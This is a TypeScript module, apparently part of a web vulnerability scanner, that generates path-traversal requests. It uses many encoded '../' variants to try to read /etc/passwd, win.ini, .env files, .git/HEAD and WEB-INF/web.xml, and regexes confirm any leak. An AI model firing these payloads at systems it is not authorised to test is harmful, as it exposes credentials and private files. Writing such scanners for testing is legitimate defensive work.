/** Ways to write "../" that get past one decoding, one replacement or one comparison too many or too few. */
const STEPS = [
  "../",
  "..%2f",
  "%2e%2e/",
  "%2e%2e%2f",
  "..%5c",
  "..\\",
  "%252e%252e%252f",
  "..%252f",
  "....//",
  "..;/",
  "..%c0%af",
] as const;

/** Enough of them for files beside the served folder. */
const SHORT_STEPS = ["../", "..%2f", "%2e%2e/", "..%5c", "%252e%252e%252f"] as const;
/** More than any folder is deep: above the root there is only the root. */
const DEEP = 10;

export interface Bait {
  readonly file: string;
  readonly what: string;
  /** Tried on the body: the status alone proves nothing. */
  readonly magic: RegExp;
}

const PASSWD: Bait = { file: "etc/passwd", what: "the machine's users", magic: /^root:[^:\n]*:0:0:/m };
const WINDOWS: Bait = {
  file: "windows/win.ini",
  what: "Windows' settings",
  magic: /^\[(fonts|extensions)\]/im,
};

/** What usually lies one or two folders above the served one. */
export const BESIDE: readonly Bait[] = [
  {
    file: "package.json",
    what: "the project's package.json",
    magic: /^\s*\{[\s\S]*"(dependencies|scripts|devDependencies)"\s*:/m,
  },
  { file: ".env", what: "environment variables", magic: /^[ \t]*(export[ \t]+)?[A-Z][A-Z0-9_]*[ \t]*=/m },
  { file: ".git/HEAD", what: "the Git repository", magic: /^ref: refs\//m },
  { file: "WEB-INF/web.xml", what: "the Java application's settings", magic: /<web-app\b/ },
];

export interface Attempt {
  readonly path: string;
  readonly bait: Bait;
}

/** Requests below one served folder, which ends in a slash: "/assets/". */
export function attemptsBelow(folder: string, beside: readonly Bait[]): Attempt[] {
  const bare = folder.slice(0, -1);
  return [
    ...STEPS.map((step) => ({ path: `${folder}${step.repeat(DEEP)}${PASSWD.file}`, bait: PASSWD })),
    { path: `${folder}${"..%5c".repeat(DEEP)}windows%5cwin.ini`, bait: WINDOWS },
    { path: `${folder}/${PASSWD.file}`, bait: PASSWD },
    { path: `${folder}%2f${PASSWD.file.replace("/", "%2f")}`, bait: PASSWD },
    ...beside.flatMap((bait) => [
      ...SHORT_STEPS.flatMap((step) =>
        [1, 2].map((depth) => ({ path: `${folder}${step.repeat(depth)}${bait.file}`, bait })),
      ),
      // A prefix without its slash, as in nginx' "location /assets { alias /srv/public/; }".
      ...(bare === "" ? [] : [{ path: `${bare}../${bait.file}`, bait }]),
    ]),
  ];
}

/** The same in a parameter of a link that names a file: "/download?file=". */
export function attemptsIn(before: string, after: string): Attempt[] {
  const asked = [
    ...STEPS.map((step) => `${step.repeat(DEEP)}${PASSWD.file}`),
    `/${PASSWD.file}`,
    `file:///${PASSWD.file}`,
  ];
  return asked.map((value) => ({ path: `${before}${value}${after}`, bait: PASSWD }));
}
